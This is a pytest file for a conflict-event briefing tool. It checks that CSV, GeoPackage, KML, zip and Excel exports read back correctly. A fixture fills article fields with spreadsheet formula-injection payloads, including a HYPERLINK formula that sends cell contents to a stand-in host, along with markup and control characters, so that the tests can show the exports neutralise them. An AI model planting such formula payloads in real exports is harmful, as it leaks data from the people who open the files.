"""Data files, read back by readers that are not ours: GDAL, pandas, DuckDB, openpyxl, an XML parser."""

import io
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import openpyxl
import pandas as pd
import pyogrio
import pytest
from msgspec.structs import replace

from briefing.acled import COLUMNS, as_acled_csv
from briefing.bundle import FILES, as_bundle
from briefing.geopackage import as_geopackage
from briefing.kml import as_kml
from briefing.view import View, make_view
from briefing.words import DISCLAIMER, phrase_tally
from briefing.workbook import as_workbook
from geo.filters import Filters
from geo.frame import as_event_frame, as_report_frame, as_reports
from reports.merge import merge_reports

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
NAME = "=<b>Goris</b>\x01\x0b"


@pytest.fixture
def hostile(reports: pd.DataFrame) -> View:
    """The view with formulas, markup and control characters in every text of the articles."""
    told = [
        replace(
            row, quote=FORMULA, article_title="@SUM(A1)", claimed_by="+<b>x</b>\x01", location=row.location and NAME
        )
        for row in as_reports(reports)
    ]
    merged, events = merge_reports(told)
    return make_view(as_event_frame(events), as_report_frame(merged), Filters())


@pytest.mark.parametrize("write", [as_acled_csv, as_geopackage, as_bundle, as_kml, as_workbook])
def test_the_same_view_gives_the_same_bytes(view: View, write: Callable[[View], bytes]) -> None:
    """No day of making is in any data file."""
    assert write(view) == write(view)


def test_acleds_columns_in_acleds_order(view: View) -> None:
    """pandas reads ACLED's columns; unknown tolls, days and places are empty, never 0 or a centroid."""
    table = pd.read_csv(io.BytesIO(as_acled_csv(view)), dtype=str, keep_default_na=False)
    assert tuple(table.columns) == COLUMNS and COLUMNS[0] == "event_id_cnty" and COLUMNS[-1] == "timestamp"
    by_place = table.set_index("location")
    assert by_place.loc["Kapan", "fatalities"] == "49" and by_place.loc["Goris", "fatalities"] == ""
    assert by_place.loc["Nagorno-Karabakh", "latitude"] == "" and by_place.loc["Gyumri", "event_date"] == ""
    assert by_place.loc["Goris", ["iso", "disorder_type"]].tolist() == ["51", "Political violence"]
    assert "denied by=Azerbaijan" in by_place.loc["Jermuk", "tags"] or "denied by=AZ" in by_place.loc["Jermuk", "tags"]
    assert "said by Ministry of Defence of Armenia" in by_place.loc["Goris", "notes"]


def test_a_toll_known_only_as_a_highest_number_is_kept(reports: pd.DataFrame) -> None:
    """ "Up to twenty dead" leaves ACLED's fatalities empty and is told among the tags."""
    told = [replace(row, fatalities_low=None, fatalities_high=20) for row in as_reports(reports)]
    merged, events = merge_reports(told)
    made = as_acled_csv(make_view(as_event_frame(events), as_report_frame(merged), Filters()))
    table = pd.read_csv(io.BytesIO(made), dtype=str, keep_default_na=False).set_index("location")
    assert table.loc["Goris", "fatalities"] == "" and "fatalities at most=20" in table.loc["Goris", "tags"]


def test_a_geopackage_opens_in_gdal(view: View, tmp_path: Path) -> None:
    """GDAL finds the layers with their geometries and values, and a default style for each drawn one."""
    path = tmp_path / "view.gpkg"
    path.write_bytes(as_geopackage(view))
    layers = dict(pyogrio.list_layers(path))
    assert layers["event_points"] == "Point" and layers["event_regions"] == "MultiPolygon"
    assert layers["event_borders"] == "MultiLineString" and layers["reports"] is None
    points = pyogrio.read_dataframe(path, layer="event_points")
    goris = points[points["location"] == "Goris"].iloc[0]
    assert (goris.geometry.x, goris.geometry.y) == (46.3417, 39.5111)
    assert goris["look"] == "shelling|one side" and goris["event_date"] == "2022-09-13"
    with sqlite3.connect(path) as database:
        styles = dict(database.execute("SELECT f_table_name, styleQML FROM layer_styles WHERE useAsDefault = 1"))
    assert set(styles) == {"event_points", "event_regions", "event_borders"}
    categories = ElementTree.fromstring(styles["event_points"].partition("\n")[2]).iter("category")
    assert {category.get("value") for category in categories} == set(points["look"])


def test_a_zip_holds_what_its_readme_says(view: View, tmp_path: Path) -> None:
    """Every file named is there and no other; the README names counts, filters, licence and every column."""
    with zipfile.ZipFile(io.BytesIO(as_bundle(view))) as archive:
        archive.extractall(tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {"README.txt", *(name for name, _ in FILES)}
    readme = (tmp_path / "README.txt").read_text(encoding="utf-8")
    assert phrase_tally(view) in readme and "Filters: none" in readme and DISCLAIMER in readme
    for column in (*view.shown.columns, *view.reports.columns):
        assert column == "geometry" or f"  {column} (" in readme, column


def test_tables_are_read_by_duckdb_and_gdal(view: View, tmp_path: Path) -> None:
    """DuckDB counts CSV and Parquet alike and reads lists as lists; GDAL reads the points of the GeoJSON."""
    with zipfile.ZipFile(io.BytesIO(as_bundle(view))) as archive:
        archive.extractall(tmp_path)
    for name in ("events.csv", "events.parquet"):
        ((count,),) = duckdb.sql(f"SELECT count(*) FROM '{tmp_path / name}'").fetchall()
        assert count == view.counts.events.shown
    query = f"SELECT claimed_by_sides FROM '{tmp_path / 'events.parquet'}' WHERE location = 'Goris'"
    assert duckdb.sql(query).fetchall() == [(["AM"],)]
    points = pyogrio.read_dataframe(tmp_path / "events.geojson")
    assert points.geometry.notna().sum() == (view.shown["kind"] == "point").sum()
    assert points.loc[points["location"] == "Goris"].geometry.iloc[0].x == 46.3417


def test_a_workbook_is_text_and_numbers(view: View, hostile: View) -> None:
    """openpyxl reads the sheets; numbers are numbers, and no cell of others' text is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(view)))
    assert book.sheetnames == ["About", "Events on the map", "Events not on the map", "Reports"]
    rows = list(book["Events on the map"].iter_rows(values_only=True))
    latitude = rows[0].index("latitude")
    assert len(rows) == view.counts.events.shown + 1 and 39.5111 in [row[latitude] for row in rows]
    cells = [
        cell for sheet in openpyxl.load_workbook(io.BytesIO(as_workbook(hostile))) for row in sheet for cell in row
    ]
    assert FORMULA in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_no_csv_cell_is_a_formula(hostile: View) -> None:
    """Neither our tables nor ACLED's hold a cell that a spreadsheet would run."""
    with zipfile.ZipFile(io.BytesIO(as_bundle(hostile))) as archive:
        for name in ("events.csv", "reports.csv", "events_acled.csv"):
            table = pd.read_csv(io.BytesIO(archive.read(name)), dtype=str, keep_default_na=False)
            texts = [column for column in table.columns if column not in ("latitude", "longitude")]
            starts = table[texts].apply(lambda column: column.str[:1].isin(list("=+-@\t\r"))).to_numpy()
            assert not starts.any(), name


def test_kml_says_what_and_who_as_text(view: View, hostile: View) -> None:
    """The XML holds a place for each event with its days; markup in articles is twice escaped, as KML reads HTML."""
    space = "{http://www.opengis.net/kml/2.2}"
    root = ElementTree.fromstring(as_kml(view))
    places = list(root.iter(f"{space}Placemark"))
    assert len(places) == view.counts.events.shown
    assert {span.findtext(f"{space}begin") for span in root.iter(f"{space}TimeSpan")} >= {"2022-09-13", "2022-09-01"}
    descriptions = "".join(place.findtext(f"{space}description") or "" for place in places)
    assert "Said by: Armenia" in descriptions
    evil = ElementTree.fromstring(as_kml(hostile))
    assert "<b>" not in "".join(place.findtext(f"{space}description") or "" for place in evil.iter(f"{space}Placemark"))


def test_sentences_can_be_left_out(view: View) -> None:
    """Without sentences no file of the zip holds one."""
    with zipfile.ZipFile(io.BytesIO(as_bundle(view, sentences=False))) as archive:
        for name in archive.namelist():
            assert b"Shells fell" not in archive.read(name), name
    assert b"Shells fell" not in as_kml(view, sentences=False)
